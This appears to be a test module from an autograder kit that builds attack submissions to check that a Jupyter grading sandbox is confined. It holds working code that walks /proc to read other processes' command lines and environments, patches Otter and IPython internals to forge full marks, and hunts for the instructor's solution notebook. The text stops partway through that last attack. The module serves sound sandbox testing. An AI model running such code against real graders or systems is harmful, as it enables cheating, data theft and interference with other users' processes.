"""Attacks on the grading sandbox: submissions written by a student who has read the kit's source.

Each is one submission of the corpus (``Submission``, made by exact source edits of the solution or
of the blank template, see ``variants.py``), graded in the same batch as the rest of the corpus.
Its points show whether it worked:

* an attack that tries to GAIN points starts from the blank template and fills its answers with
  what it steals or forges: it must get 0 (or exactly what it did honestly);
* an attack that tries to DAMAGE (other notebooks, the submissions folder, the grader, the
  neighbours) starts from the solution: it must keep its full marks, and other tests check that the
  damage did not happen (submissions folder unchanged, neighbours keep their marks, the batch ends);
* an attack that PROBES a rule starts from the solution and is a canary: its attack cell comes
  right after the imports and sets ``leaked``, and its q6 answer cell says
  ``answer_forget_gate = "A" if not leaked else "C"``, so a forbidden action that succeeded costs
  it q6_forget_gate (the value is taken at that question's check cell, after the attack cell).

The points and statuses expected are those of the confined design (each kernel reads only the
Python environment and its own folder, writes only there and in a private /tmp, has no network,
cannot see or signal other processes, at most ~128 processes; every point computed outside the
kernel from values taken at each check cell). Against the grader that ran kernels unconfined
(commit 70a54aa: as the grader's user, with the grader's files, network and processes in reach),
every attack did what its comment says: "Unconfined:" in each comment is what it achieved there.
The test module grades ``variants.CORPUS + attacks.ATTACKS`` (this module imports ``variants``, so
``variants`` cannot list these itself).

Safety. These notebooks are meant to run confined, where they reach nothing. But a sandbox can
regress, and the corpus is graded on developers' machines and in CI, so what an attack may DAMAGE
is limited by three constants written into its source when the corpus is written:

* ``FILE_SCOPE`` (default: the temporary folder, ``/tmp``): the only place where a notebook is
  overwritten or a file added, and only a notebook of this assignment (its Otter metadata). The
  search for victims uses the real roots (``/``, ``/tmp``, ``/work``, ``/root``), but the
  instructor's notebooks (``solution/``, ``student_template/``, ``assignment/``, ``autograder/``)
  are never under /tmp, so even an unconfined kernel cannot destroy the kit itself;
* ``PROCESS_SCOPE`` (default ``/``): signals, kernel messages and TCP connections go only to the
  processes of this grading batch (the highest ancestor below the first shell, and its
  descendants; never pid 1, never a shell or the machine's own services) whose working folder is
  in this scope;
* ``NEVER`` (default: none): folders never written to, not even a probe file.

The verification run narrows them with the environment variables EXERCISE_KIT_ATTACK_FILE_SCOPE,
EXERCISE_KIT_ATTACK_PROCESS_SCOPE and EXERCISE_KIT_ATTACK_NEVER (``os.pathsep``-separated) when the
corpus is written, and EXERCISE_KIT_ATTACK_REPORT names a JSON-lines file where each attack says
what it achieved (unset: nothing is written). The fork bomb is capped at 2047 processes (a binary
tree 10 deep), which is far above the sandbox's cap and far below this machine's pid_max.
"""

import os
import tempfile

from corpus.variants import (
    AFTER_TRAINING,
    COMPLETED,
    POINTS,
    SOLUTION,
    TEMPLATE,
    TEMPLATE_IMPORTS,
    ZERO,
    AddCell,
    Replace,
    Submission,
    edited,
    only_cell_with,
    points,
    read_clean,
)


def _paths(variable: str, default: tuple) -> tuple:
    value = os.environ.get(variable)
    return tuple(path for path in value.split(os.pathsep) if path) if value else default


FILE_SCOPE = _paths("EXERCISE_KIT_ATTACK_FILE_SCOPE", (tempfile.gettempdir(),))
PROCESS_SCOPE = _paths("EXERCISE_KIT_ATTACK_PROCESS_SCOPE", ("/",))
NEVER = _paths("EXERCISE_KIT_ATTACK_NEVER", ())
REPORT = os.environ.get("EXERCISE_KIT_ATTACK_REPORT")  # verification only

IMPORTS = TEMPLATE_IMPORTS  # "import tensorflow as tf": the imports cell, in the solution and the template
FORGET_ANSWER = 'answer_forget_gate = "A"  # SOLUTION'
FORGET_ANSWER_CANARY = 'answer_forget_gate = "A" if not leaked else "C"  # SOLUTION: "C" if the attack got through'
AFTER_Q3_CHECK = 'grader.check("q3_training")'
AFTER_LAST_CHECK = 'grader.check("q6_counting")'
AFTER_MODEL = "cell, output_layer = make_model()"
LEFT_RUNNING = r"^Completed; \d+ process(es were| was) left running by the notebook and killed$"

# A classmate's run of the solution (the same initial weights), pasted: its trained weights, its
# predictions, its gate table, and its loss curve (first 500 losses, epochs run, last loss).
CLASSMATE_WEIGHTS = {
    "kernel": [[3.240956, -3.4907265, 5.2493186, 3.7584221]],
    "recurrent_kernel": [[0.580434, 2.6491418, 1.0838823, 2.9974453]],
    "bias": [5.7758307, 0.29622614, -0.89916724, 5.9478564],
    "dense_kernel": [[-16.824322]],
    "dense_bias": [-2.6363358],
}
CLASSMATE_PREDICTIONS = [[0.9952192], [0.0052059814], [1.18623775e-05], [7.938371e-07], [2.0581696e-07]]
CLASSMATE_GATES = {
    "input": [
        [0.99987864, 0.9980102, 0.9979184, 0.99772304, 0.99721515, 0.9998429, 0.9980069, 0.9979121,
        0.99770844, 0.9971745],
        [0.996908, 0.99982697, 0.99800664, 0.9979119, 0.99770784, 0.99717283, 0.99984014, 0.9980069,
        0.997912, 0.9977083],
        [0.996908, 0.9955966, 0.9998099, 0.9980063, 0.9979113, 0.99770665, 0.99716944, 0.9998399,
        0.9980069, 0.997912],
        [0.996908, 0.9955966, 0.9951637, 0.99980956, 0.9980063, 0.99791116, 0.9977064, 0.9971687,
        0.9998399, 0.9980069],
        [0.996908, 0.9955966, 0.9951637, 0.9951544, 0.99980944, 0.9980063, 0.99791116, 0.9977063,
        0.9971686, 0.9998399],
    ],
    "forget": [
        [0.039373204, 0.90996176, 0.89155823, 0.84509325, 0.6846559, 0.012447695, 0.90933186,
        0.8902199, 0.8412209, 0.6701488],
        [0.5735197, 0.008048907, 0.9092912, 0.89016455, 0.8410595, 0.6695446, 0.011507124,
        0.9093236, 0.8902066, 0.84118223],
        [0.5735197, 0.21025136, 0.0052506435, 0.90921694, 0.8900552, 0.84074026, 0.6683505,
        0.01143962, 0.909323, 0.8902056],
        [0.5735197, 0.21025136, 0.14761715, 0.0052047344, 0.9092045, 0.8900293, 0.8406645,
        0.66806704, 0.011423733, 0.90932286],
        [0.5735197, 0.21025136, 0.14761715, 0.14650978, 0.005189649, 0.9092035, 0.8900276,
        0.8406595, 0.66804826, 0.011422678],
    ],
    "candidate": [
        [0.999667, -0.07381146, -0.15708658, -0.31510392, -0.60638005, 0.9991262, -0.07692956,
        -0.16257572, -0.32585424, -0.623274],
        [-0.71589214, 0.9987473, -0.077129826, -0.16280133, -0.3262961, -0.6239571, 0.9990675,
        -0.07697038, -0.16262992, -0.3259604],
        [-0.71589214, -0.9157169, 0.9982195, -0.077496104, -0.16324629, -0.32716802, -0.62530243,
        0.99906296, -0.07697335, -0.16263363],
        [-0.71589214, -0.9157169, -0.93996704, 0.9982066, -0.0775573, -0.16335176, -0.32737473,
        -0.62562084, 0.9990619, -0.07697394],
        [-0.71589214, -0.9157169, -0.93996704, -0.9403863, 0.9982023, -0.07756216, -0.16335872,
        -0.32738847, -0.62564194, 0.9990618],
    ],
    "output": [
        [0.9999391, 0.9997335, 0.9996635, 0.9994648, 0.9984836, 0.9997688, 0.99973124, 0.9996582,
        0.9994468, 0.99836546],
        [0.9973954, 0.9996195, 0.999731, 0.999658, 0.9994461, 0.99836034, 0.9997471, 0.9997311,
        0.9996581, 0.9994466],
        [0.9973954, 0.9839406, 0.9993812, 0.99973077, 0.9996575, 0.99944454, 0.9983504, 0.9997453,
        0.9997311, 0.9996581],
        [0.9973954, 0.9839406, 0.9741368, 0.99937505, 0.99973077, 0.9996574, 0.9994442, 0.998348,
        0.99974495, 0.9997311],
        [0.9973954, 0.9839406, 0.9741368, 0.9738841, 0.999373, 0.99973077, 0.9996574, 0.9994442,
        0.9983479, 0.99974495],
    ],
    "cell": [
        [0.9995457, 0.83588374, 0.5884794, 0.18293354, -0.47944486, 0.9930012, 0.8261914, 0.5732558,
        0.15712723, -0.5162143],
        [-0.7136786, 0.99283016, 0.82579565, 0.5726327, 0.15606996, -0.5176972, 0.9929506,
        0.8260964, 0.5731061, 0.15687329],
        [-0.7136786, -1.0617366, 0.99245495, 0.82501525, 0.57140374, 0.15398443, -0.5206169,
        0.9929474, 0.8260899, 0.57309586],
        [-0.7136786, -1.0617366, -1.0921515, 0.99233216, 0.8248302, 0.5711125, 0.15349016,
        -0.5213078, 0.9929467, 0.82608855],
        [-0.7136786, -1.0617366, -1.0921515, -1.0958405, 0.9923251, 0.82481796, 0.5710932,
        0.1534574, -0.52135354, 0.9929466],
    ],
    "hidden": [
        [0.7613569, 0.6834405, 0.52862316, 0.18082306, -0.4451229, 0.7584637, 0.6782434, 0.51756936,
        0.15576056, -0.47399694],
        [-0.6113818, 0.75827783, 0.6780296, 0.5171132, 0.15472926, -0.47514045, 0.7584258, 0.678192,
        0.5174598, 0.15551288],
        [-0.6113818, -0.77369964, 0.75793785, 0.67760783, 0.51621264, 0.15269394, -0.47738722,
        0.75842303, 0.6781885, 0.5174523],
        [-0.6113818, -0.77369964, -0.777032, 0.75788105, 0.6775079, 0.515999, 0.15221138,
        -0.47791797, 0.7584225, 0.6781878],
        [-0.6113818, -0.77369964, -0.777032, -0.77813333, 0.7578765, 0.67750126, 0.51598483,
        0.15217942, -0.47795308, 0.7584225],
    ],
}
CLASSMATE_EPOCHS = 5427
CLASSMATE_LAST_LOSS = 9.999594e-06
CLASSMATE_FIRST_LOSSES = [
    0.25887263, 0.24934344, 0.24347678, 0.23890996, 0.23495348, 0.23127756, 0.22769484, 0.22410044,
    0.22044404, 0.21670964, 0.21290112, 0.20903563, 0.2051413, 0.20125575, 0.19742426, 0.1936963,
    0.19012186, 0.18674634, 0.18360636, 0.18072602, 0.17811584, 0.17577349, 0.1736866, 0.17183602,
    0.17019911, 0.16875204, 0.16747189, 0.1663374, 0.16532962, 0.16443196, 0.16363004, 0.16291168,
    0.16226637, 0.16168527, 0.16116074, 0.1606864, 0.16025667, 0.15986669, 0.15951249, 0.15919037,
    0.15889725, 0.15863034, 0.15838712, 0.15816551, 0.15796342, 0.15777916, 0.15761101, 0.1574575,
    0.15731728, 0.15718898, 0.15707146, 0.15696356, 0.15686418, 0.15677232, 0.15668696, 0.1566072,
    0.15653212, 0.15646088, 0.1563926, 0.15632653, 0.15626189, 0.15619788, 0.1561339, 0.15606922,
    0.15600333, 0.15593556, 0.15586542, 0.15579244, 0.15571615, 0.1556361, 0.15555194, 0.15546326,
    0.15536962, 0.15527067, 0.15516597, 0.15505505, 0.15493748, 0.15481281, 0.15468061, 0.15454052,
    0.15439232, 0.15423574, 0.15407076, 0.15389743, 0.15371588, 0.15352628, 0.15332882, 0.1531239,
    0.15291175, 0.15269263, 0.15246682, 0.15223452, 0.15199603, 0.15175155, 0.15150136, 0.15124573,
    0.15098482, 0.15071896, 0.15044829, 0.15017304, 0.14989337, 0.14960942, 0.14932136, 0.14902933,
    0.1487335, 0.14843394, 0.14813077, 0.14782408, 0.14751397, 0.14720057, 0.1468841, 0.1465657,
    0.14626674, 0.1461243, 0.1459091, 0.14538594, 0.14504208, 0.14471598, 0.14439556, 0.1440713,
    0.14374469, 0.14341383, 0.14308132, 0.14274696, 0.14242007, 0.14210865, 0.1418514, 0.14154258,
    0.1412019, 0.14079972, 0.14043498, 0.14007328, 0.13972487, 0.13937454, 0.13903198, 0.13868907,
    0.13836196, 0.13803467, 0.13772564, 0.13737953, 0.1370317, 0.1366538, 0.1362908, 0.13592276,
    0.13556913, 0.13521314, 0.13487034, 0.13452491, 0.13419399, 0.1338534, 0.13352083, 0.13316669,
    0.13281617, 0.13245125, 0.1320958, 0.13173568, 0.13138714, 0.13103637, 0.13069698, 0.13035426,
    0.13002053, 0.12967905, 0.1293415, 0.12899402, 0.12864903, 0.1282985, 0.12795296, 0.12760642,
    0.12726639, 0.12692693, 0.1265932, 0.12625948, 0.1259285, 0.12559626, 0.12526333, 0.12492965,
    0.12459419, 0.12426077, 0.1239265, 0.12359686, 0.12326678, 0.12294264, 0.12261683, 0.12229724,
    0.12197341, 0.121656105, 0.12133195, 0.12101563, 0.120691225, 0.12037674, 0.12005399,
    0.11974312, 0.11942352, 0.11911716, 0.118800655, 0.11849828, 0.11818357, 0.117884055,
    0.11756997, 0.1172726, 0.11695926, 0.11666443, 0.116352774, 0.11606139, 0.115752086, 0.11546463,
    0.11515771, 0.11487392, 0.11456863, 0.11428797, 0.11398371, 0.113705754, 0.11340256, 0.11312741,
    0.11282573, 0.11255388, 0.11225404, 0.11198572, 0.111687675, 0.1114228, 0.1111262, 0.110864446,
    0.11056894, 0.11031008, 0.11001563, 0.10975971, 0.10946649, 0.10921363, 0.10892181, 0.10867222,
    0.10838175, 0.10813533, 0.107845984, 0.10760262, 0.10731421, 0.10707371, 0.10678618,
    0.106548525, 0.10626187, 0.10602716, 0.10574143, 0.10550968, 0.10522486, 0.104996026,
    0.104711965, 0.10448597, 0.104202546, 0.103979275, 0.10369637, 0.103475824, 0.10319339,
    0.10297547, 0.10269357, 0.10247837, 0.10219685, 0.1019843, 0.10170311, 0.10149312, 0.101212144,
    0.1010047, 0.10072379, 0.10051882, 0.10023793, 0.100035384, 0.09975449, 0.09955433, 0.09927335,
    0.09907558, 0.0987944, 0.098598935, 0.09831744, 0.09812425, 0.09784232, 0.097651355, 0.09736896,
    0.09718013, 0.096897185, 0.09671046, 0.09642687, 0.09624223, 0.095957875, 0.09577526,
    0.09549008, 0.09530945, 0.09502329, 0.0948446, 0.094557375, 0.094380565, 0.094092205,
    0.09391726, 0.093627654, 0.09345448, 0.09316352, 0.09299212, 0.09269975, 0.09253003, 0.09223609,
    0.09206805, 0.09177241, 0.09160606, 0.09130864, 0.0911438, 0.09084454, 0.0906813, 0.09038003,
    0.09021828, 0.08991496, 0.08975469, 0.08944913, 0.0892903, 0.088982455, 0.088825, 0.08851475,
    0.08835867, 0.08804591, 0.08789115, 0.08757575, 0.087422326, 0.087104164, 0.086952016,
    0.08663101, 0.086480066, 0.0861561, 0.08600642, 0.0856794, 0.08553093, 0.08520071, 0.0850534,
    0.08471986, 0.08457379, 0.08423684, 0.08409189, 0.083751455, 0.08360772, 0.08326365, 0.08312105,
    0.08277325, 0.08263178, 0.082280196, 0.082139865, 0.081784315, 0.08164515, 0.081285596,
    0.081147544, 0.08078389, 0.08064701, 0.08027914, 0.08014346, 0.079771265, 0.0796368, 0.07926021,
    0.07912696, 0.07874592, 0.07861389, 0.07822825, 0.07809752, 0.077707306, 0.07757792,
    0.077182904, 0.0770549, 0.07665513, 0.07652854, 0.0761239, 0.075998776, 0.0755892, 0.07546561,
    0.07505107, 0.074929066, 0.074509494, 0.074389145, 0.07396451, 0.07384588, 0.07341614,
    0.07329929, 0.0728644, 0.072749466, 0.07230936, 0.07219641, 0.0717511, 0.07164018, 0.07118968,
    0.07108089, 0.07062511, 0.07051862, 0.0700576, 0.06995345, 0.069487184, 0.06938548, 0.068914,
    0.06881487, 0.06833812, 0.068241686, 0.06775977, 0.06766613, 0.06717899, 0.067088254,
    0.066595964, 0.06650829, 0.06601091, 0.06592637, 0.06542387, 0.065342605, 0.06483509,
    0.06475721, 0.06424473, 0.06417039, 0.06365303, 0.06358233, 0.06306009, 0.06299318, 0.062466133,
    0.062403113, 0.061871372, 0.06181231, 0.06127596, 0.061221056, 0.06068016, 0.060629554,
    0.060084235, 0.060037903, 0.059488285, 0.059446417, 0.05889253, 0.058855228, 0.058297146,
    0.058264546, 0.05770241, 0.057674624, 0.05710853, 0.057085652, 0.05651576, 0.05649774,
    0.055924185, 0.05591125, 0.05533409, 0.055326264, 0.054745607, 0.05474294, 0.054158963,
    0.054161586, 0.053574376, 0.053582363, 0.05299207, 0.053005397, 0.052412134, 0.052430905,
    0.051834784, 0.05185904, 0.05126027, 0.051290035, 0.050688587, 0.050723918, 0.050120067,
    0.050160967, 0.049554788, 0.04960126, 0.048992902, 0.049045045, 0.04843462, 0.04849235,
    0.047879986, 0.0479433, 0.04732916, 0.047398128, 0.046782315, 0.04685692, 0.046239592,
    0.046319723, 0.04570092, 0.045786716, 0.045166634, 0.045257982, 0.044636738, 0.044733576,
    0.04411129, 0.04421364, 0.04359042, 0.04369824, 0.04307423, 0.04318745, 0.04256272, 0.04268135,
    0.04205595, 0.042179935, 0.0415541, 0.04168341, 0.041057132, 0.041191734, 0.040565226,
    0.040704966, 0.040078275, 0.040223096, 0.03959631, 0.039746232, 0.039119475, 0.03927439,
    0.038647763, 0.038807593, 0.03818117, 0.038345847,
]


def _bake(source: str) -> str:
    """The attack's source with this corpus's scopes written in."""
    for name, value in (("FILE_SCOPE", FILE_SCOPE), ("PROCESS_SCOPE", PROCESS_SCOPE), ("NEVER", NEVER), ("REPORT", REPORT)):
        source = source.replace(f"__{name}__", repr(value))
    for name in ("CLASSMATE_WEIGHTS", "CLASSMATE_PREDICTIONS", "CLASSMATE_GATES"):
        source = source.replace(f"__{name}__", repr(globals()[name]))
    return source


def _attack_cell(name: str, body: str) -> str:
    """A cell that runs ``attack()`` (defined in ``body``) and reports what it achieved."""
    return _bake(
        PROCFS
        + body
        + f"""

try:
    achieved = attack()
except Exception as error:  # an attack that breaks must not break the rest of the notebook
    achieved = None
    report({name!r}, f"the attack itself failed: {{type(error).__name__}}: {{error}}")
else:
    report({name!r}, achieved)
"""
    )


def _canary(name: str, body: str, after: str = IMPORTS):
    """The solution, with ``body`` (which defines ``attack() -> what it got through``) right after
    ``after``, and a q6_forget_gate answer that is wrong if anything got through."""
    cell = _attack_cell(name, body) + "leaked = bool(achieved)\nprint('leaked:', leaked)\n"
    return edited(SOLUTION, AddCell(after, cell), Replace(FORGET_ANSWER, FORGET_ANSWER_CANARY))


# ---------------------------------------------------------------------------------------------
# Kernel-side helpers, part of every attack's cell: what a student would write to find the grader
# through /proc. (Raw strings: this is the notebook's code.)

PROCFS = r'''import glob
import json
import os
import sys
import time

# Written in when the corpus was made (tests/corpus/attacks.py): where this notebook may damage
# files, which processes it may signal or contact, where it never writes, where it reports.
FILE_SCOPE = __FILE_SCOPE__
PROCESS_SCOPE = __PROCESS_SCOPE__
NEVER = __NEVER__
REPORT = __REPORT__
NOT_THE_GRADER = {"bash", "sh", "dash", "zsh", "fish", "tmux", "screen", "sshd", "login", "su", "sudo", "init",
                  "systemd", "process_api", "binary_backend", "containerd-shim", "tini", "dumb-init", "docker-init"}


def report(attack, achieved):
    print(attack, "achieved:", achieved)
    if REPORT:
        try:
            with open(REPORT, "a") as f:
                f.write(json.dumps({"attack": attack, "pid": os.getpid(), "cwd": os.getcwd(), "achieved": achieved}, default=str) + "\n")
        except OSError:
            pass


def read(path, binary=False, limit=None):
    try:
        with open(path, "rb") as f:
            data = f.read() if limit is None else f.read(limit)
    except OSError:
        return None
    return data if binary else data.decode(errors="replace")


def stat_of(pid):
    """(parent pid, process group) from /proc/<pid>/stat, or None."""
    text = read(f"/proc/{pid}/stat")
    if not text:
        return None
    fields = text[text.rindex(")") + 2 :].split()
    return int(fields[1]), int(fields[2])


def cmdline_of(pid):
    data = read(f"/proc/{pid}/cmdline", binary=True) or b""
    return [arg.decode(errors="replace") for arg in data.split(b"\0") if arg]


def cwd_of(pid):
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None


def environ_of(pid):
    data = read(f"/proc/{pid}/environ", binary=True) or b""
    pairs = (item.decode(errors="replace").partition("=") for item in data.split(b"\0") if item)
    return {key: value for key, _, value in pairs}


def pids():
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        return []


def ancestors():
    """This kernel's ancestors, parent first, up to pid 1 (not included)."""
    chain, pid = [], os.getppid()
    while pid > 1 and pid not in chain:
        chain.append(pid)
        stat = stat_of(pid)
        if stat is None:
            break
        pid = stat[0]
    return chain


def program(pid):
    argv = cmdline_of(pid)
    return os.path.basename(argv[0]).lstrip("-") if argv else ""


def batch_root():
    """The grader: the highest ancestor below the first shell or system service (or None)."""
    root = None
    for pid in ancestors():
        if program(pid) in NOT_THE_GRADER:
            break
        root = pid
    return root


def under(path, roots):
    path = os.path.realpath(path)
    for root in roots:
        root = os.path.realpath(root)
        if path == root or path.startswith(root.rstrip("/") + "/"):
            return True
    return False


def descends_from(pid, root):
    seen = set()
    while pid > 1 and pid not in seen:
        if pid == root:
            return True
        seen.add(pid)
        stat = stat_of(pid)
        if stat is None:
            return False
        pid = stat[0]
    return False


def may_touch(pid, root):
    """A process of this grading batch (never pid 1, never this kernel) within PROCESS_SCOPE."""
    if pid in (0, 1, os.getpid()) or root is None or not descends_from(pid, root):
        return False
    cwd = cwd_of(pid)
    return under(cwd, PROCESS_SCOPE) if cwd else tuple(PROCESS_SCOPE) == ("/",)


def socket_owners():
    """{socket inode: pid} for every process whose file descriptors /proc shows."""
    owners = {}
    for pid in pids():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if link.startswith("socket:["):
                owners.setdefault(link[8:-1], pid)
    return owners


def listening_tcp():
    """[(address hex, port, inode)] of the listening TCP sockets /proc/net shows."""
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in (read(table) or "").splitlines()[1:]:
            fields = line.split()
            if len(fields) > 9 and fields[3] == "0A":
                address, port = fields[1].split(":")
                found.append((address, int(port, 16), fields[9]))
    return found

'''


# ---------------------------------------------------------------------------------------------
# 1. Forged values (template: must get 0). Everything the grader's in-kernel code could use to
# report values is replaced: IPython's display functions and display publisher, json.dumps and
# json.dump, the kernel's user_expressions, Otter's OKTestFile.run and Checker.check; every
# function of every exercise_kit* / lstm* module in sys.modules (the kernel is forked from a
# process that imported kit modules) is wrapped so that a namespace passed to it is the forged one,
# a failed check passes and a verdict-like result is full marks; pre_run_cell / post_run_cell
# hooks and an input transformer put the forged values back in the namespace before and after
# every cell, and in front of any code that looks like the grader's. The forged values come from
# the grader's reference maths, wherever the kernel can reach it (a module it inherited, or one it
# can import from its folder, from sys.path, or from ../source/files), with a classmate's pasted
# trained weights.
# Unconfined: `import lstm_checks` worked from the kernel's folder; 20 / 20, status "Completed"
# (Otter and the clean check both fooled).

FORGE = r'''
import builtins
import importlib
import importlib.util
import types

import IPython
import IPython.core.display_functions as display_functions
import IPython.display
import numpy as np

ip = get_ipython()
CLASSMATE_WEIGHTS = __CLASSMATE_WEIGHTS__  # a classmate's trained weights, pasted
NAMES = ("kernel", "recurrent_kernel", "bias", "dense_kernel", "dense_bias")
KIT_MODULES = ("exercise_kit", "lstm", "autograder_lstm", "_kit")


def find_reference():
    for name in ("lstm_checks", "exercise_kit.lstm_checks", "exercise_kit.reference", "exercise_kit.verify"):
        try:
            importlib.import_module(name)
        except Exception:
            pass
    here = os.getcwd()
    for path in (os.path.join(here, "lstm_checks.py"), os.path.join(here, "..", "source", "files", "lstm_checks.py")):
        if os.path.exists(path):
            try:
                spec = importlib.util.spec_from_file_location("stolen_lstm_checks", path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                sys.modules["stolen_lstm_checks"] = module
            except Exception:
                pass
    for module in list(sys.modules.values()):
        if all(callable(getattr(module, name, None)) for name in ("make_data", "lstm_trace", "predict")):
            return module
    return None


class Weights:
    """Stands for a Keras layer: only its weights."""

    def __init__(self, weights):
        self.weights_ = [np.asarray(w, np.float32) for w in weights]

    def get_weights(self):
        return [w.copy() for w in self.weights_]


def forged_namespace(reference):
    if reference is None:
        return {}
    X, Y = (np.asarray(a, np.float32) for a in reference.make_data())
    weights = {name: np.asarray(CLASSMATE_WEIGHTS[name], np.float64) for name in NAMES}

    def weights_of(cell, output_layer):
        return dict(zip(NAMES, [np.asarray(w, np.float64) for w in cell.get_weights() + output_layer.get_weights()]))

    answers = dict(getattr(reference, "EXPECTED_ANSWERS", {}))
    if not answers and hasattr(reference, "derive_answers"):
        answers = reference.derive_answers(weights)
    return {
        "X": X,
        "Y": Y,
        "cell": Weights([CLASSMATE_WEIGHTS[name] for name in NAMES[:3]]),
        "output_layer": Weights([CLASSMATE_WEIGHTS[name] for name in NAMES[3:]]),
        "forward": lambda cell, output_layer, x: reference.predict(weights_of(cell, output_layer), np.asarray(x, np.float64)).astype(np.float32),
        "mse_loss": lambda y_true, y_pred: np.float32(np.mean((np.asarray(y_true, np.float64) - np.asarray(y_pred, np.float64)) ** 2)),
        "lstm_gates": lambda cell, x: reference.lstm_trace(*cell.get_weights(), x),
        "predictions": reference.predict(weights, X).astype(np.float32),
        "epochs": 1,
        "losses": np.array([9e-06], np.float32),
        **answers,
    }


REFERENCE = find_reference()
FORGED = forged_namespace(REFERENCE)
VALUES = {key: value for key, value in FORGED.items() if not callable(value) and not isinstance(value, Weights)}


def forge(value):
    """Full marks in anything that looks like a verdict; the forged values in anything that names them."""
    if isinstance(value, dict):
        value = {key: forge(item) for key, item in value.items()}
        for total in ("max_score", "possible", "points_possible"):
            if total in value and "score" in value:
                value["score"] = value[total]
        for flag in ("passed", "passed_all", "success"):
            if isinstance(value.get(flag), bool):
                value[flag] = True
        for key in value:
            if isinstance(key, str) and key in VALUES:
                forged = VALUES[key]
                value[key] = forged if isinstance(value[key], np.ndarray) or not isinstance(forged, np.ndarray) else forged.tolist()
        return value
    if type(value) in (list, tuple):
        return type(value)(forge(item) for item in value)
    return value


def namespace_like(value):
    return isinstance(value, dict) and ("__builtins__" in value or "grader" in value)


def wrap(function):
    def forged(*args, **kwargs):
        if FORGED:
            args = [{**arg, **FORGED} if namespace_like(arg) else arg for arg in args]
            kwargs = {key: {**arg, **FORGED} if namespace_like(arg) else arg for key, arg in kwargs.items()}
        try:
            return forge(function(*args, **kwargs))
        except AssertionError:  # a failed check (the kit's CheckFailed is an AssertionError)
            return None

    forged.forged_by_the_attack = True
    return forged


ORIGINAL = {"dumps": json.dumps, "dump": json.dump, "publish": ip.display_pub.publish,
            "display": display_functions.display, "publish_display_data": display_functions.publish_display_data,
            "user_expressions": ip.user_expressions}


def display(*objects, **kwargs):
    return ORIGINAL["display"](*[forge(o) for o in objects], **kwargs)


def publish_display_data(data, metadata=None, *args, **kwargs):
    return ORIGINAL["publish_display_data"](forge(data), forge(metadata), *args, **kwargs)


def publish(data, metadata=None, *args, **kwargs):
    return ORIGINAL["publish"](forge(data), forge(metadata), *args, **kwargs)


def user_expressions(expressions):
    """Whatever the grader asks the kernel to evaluate, it evaluates among the forged values."""
    saved = {key: ip.user_ns[key] for key in FORGED if key in ip.user_ns}
    ip.user_ns.update(FORGED)
    try:
        return forge(ORIGINAL["user_expressions"](expressions))
    finally:
        ip.user_ns.update(saved)


def install():
    json.dumps = lambda obj, *args, **kwargs: ORIGINAL["dumps"](forge(obj), *args, **kwargs)
    json.dump = lambda obj, fp, *args, **kwargs: ORIGINAL["dump"](forge(obj), fp, *args, **kwargs)
    ip.display_pub.publish = publish
    display_functions.display = IPython.display.display = builtins.display = display
    display_functions.publish_display_data = IPython.display.publish_display_data = publish_display_data
    ip.user_expressions = user_expressions
    try:
        from otter.execute import Checker
        from otter.test_files import abstract_test, ok_test

        def run_all_passed(self, global_environment):
            self.test_case_results = [
                abstract_test.TestCaseResult(test_case=case, message="✅ Test case passed", passed=True)
                for case in self.test_cases
            ]

        ok_test.OKTestFile.run = run_all_passed
        if not getattr(Checker.check, "forged_by_the_attack", False):
            otter_check = Checker.check.__func__

            def check_full_marks(cls, *args, **kwargs):
                test_file = otter_check(cls, *args, **kwargs)
                test_file.update_score(test_file.possible)
                return test_file

            check_full_marks.forged_by_the_attack = True
            Checker.check = classmethod(check_full_marks)
    except Exception:
        pass
    for name, module in list(sys.modules.items()):
        if module is None or not name.startswith(KIT_MODULES) and "lstm" not in name:
            continue
        for attribute, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType) and not getattr(value, "forged_by_the_attack", False):
                try:
                    setattr(module, attribute, wrap(value))
                except Exception:
                    pass


GRADER_WORDS = ("_kit", "lstm_checks", "save_evidence", "run_check", "exercise_kit", "evidence", "probe")


def rewrite(lines):
    """Code that looks like the grader's runs with the forged values in place."""
    if FORGED and any(word in "".join(lines) for word in GRADER_WORDS):
        return ["get_ipython().user_ns.update(__forged__)\n", *lines]
    return lines


def before_cell(info):
    install()  # again, in case the grader put anything back


def after_cell(result):
    ip.user_ns.update(FORGED)  # whatever the cell did, the forged values are the notebook's


def attack():
    ip.user_ns["__forged__"] = FORGED
    install()
    ip.events.register("pre_run_cell", before_cell)
    ip.events.register("post_run_cell", after_cell)
    ip.input_transformers_post.append(rewrite)
    after_cell(None)
    return {"reference": getattr(REFERENCE, "__file__", None) or getattr(REFERENCE, "__name__", None), "forged": sorted(FORGED)}
'''


# ---------------------------------------------------------------------------------------------
# 2. The instructor's files through /proc (template: must get 0). It follows /proc/<pid>/stat up
# to pid 1, reads each ancestor's cwd and command line (and the grader's own processes'
# environment), adds the folders of the kit modules the kernel inherited, and looks there for a
# solved notebook (solution/, autograder/, ...). Found, it swaps every template cell that has a
# `...` for the matching solved cell (an IPython input transformer), so the template runs as the
# solution.
# Unconfined: found /work/scratch/head/solution/exercise-6-3-lstm.ipynb through the cwd of its
# ancestors (the grade command runs in the kit's folder); 20 / 20, "Completed".

STEAL_SOLUTION = r'''
import re

SOLVED_MARKERS = ("# " + "SOLUTION", "# " + "BEGIN SOLUTION")  # split, so that this cell is not one
FILLED = "answer_forget_gate = " + '"'
HOLE = re.compile(r"^\s*(\.\.\.|[\w, ]+ = \.\.\.)\s*$")


def folders_to_search():
    here = os.getcwd()
    found = [os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
    root = batch_root()
    for pid in ancestors():
        cwd = cwd_of(pid) or "/"
        found.append(cwd)
        found += [os.path.join(cwd, arg) for arg in cmdline_of(pid)]
        if root is not None and descends_from(pid, root):  # the grader's own processes only
            for value in environ_of(pid).values():
                found += [part for part in value.split(os.pathsep) if part.startswith("/")]
    for name, module in list(sys.modules.items()):  # the kit modules the kernel inherited
        path = getattr(module, "__file__", None) or ""
        if path and (name.startswith(("exercise_kit", "lstm", "autograder")) or "lstm" in path):
            found += [os.path.dirname(path), os.path.dirname(os.path.dirname(path))]
